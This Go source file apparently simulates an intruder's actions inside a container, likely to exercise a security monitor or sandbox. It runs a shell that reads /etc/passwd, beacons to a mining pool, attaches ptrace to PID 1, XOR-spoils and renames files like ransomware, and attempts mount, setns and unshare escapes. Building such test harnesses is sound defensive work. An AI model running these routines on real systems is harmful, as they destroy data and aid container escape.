package main

import (
	"crypto/sha256"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"syscall"
	"time"
)

// What an intruder does once he is inside. Nothing leaves the machine, and nothing outside of the service's own
// folder is changed; where the kernel refuses a call, the attempt was made all the same.
var attacks = map[string]func(folder, lair string){
	"shell": shell, "miner": miner, "ptrace": trace, "ransom": ransom,
	"mount": mount, "setns": enter, "unshare": unshare,
}

// setns is the call's number, which package syscall does not name.
var setns = map[string]uintptr{"amd64": 308, "arm64": 268}

func shell(string, string) {
	_ = exec.Command("/bin/sh", "-c", "id; uname -a; ls /; cat /etc/passwd").Run()
}

// miner reports to its pool now and then, and does nothing but sums in between.
func miner(_, lair string) {
	pool := dial(lair)
	go func() {
		for {
			_, _ = pool.Write([]byte(`{"method":"submit"}`))
			time.Sleep(time.Second)
		}
	}()
	block := sha256.Sum256([]byte("genesis"))
	for begin := time.Now(); time.Since(begin) < 30*time.Second; {
		for range 10000 {
			block = sha256.Sum256(block[:])
		}
	}
}

// trace tries to stop the first process of the container and to look into it.
func trace(string, string) {
	runtime.LockOSThread()
	_ = syscall.PtraceAttach(1)
}

// ransom makes all files unreadable and renames them, over and over, since there are few.
func ransom(folder, _ string) {
	for begin := time.Now(); time.Since(begin) < 10*time.Second; time.Sleep(500 * time.Millisecond) {
		names, _ := filepath.Glob(filepath.Join(folder, "files", "*"))
		for _, name := range names {
			spoil(name)
		}
	}
}

func spoil(name string) {
	held, _ := os.ReadFile(name)
	for i := range held {
		held[i] ^= 0x5a
	}
	_ = os.WriteFile(name, held, 0o600)
	_ = os.Rename(name, name+"x")
}

func mount(folder, _ string) { _ = syscall.Mount("none", folder, "tmpfs", 0, "") }

func enter(string, string) {
	space, _ := syscall.Open("/proc/1/ns/net", syscall.O_RDONLY, 0)
	_, _, _ = syscall.RawSyscall(setns[runtime.GOARCH], uintptr(space), 0, 0)
}

func unshare(string, string) {
	runtime.LockOSThread()
	_ = syscall.Unshare(syscall.CLONE_NEWNS)
}
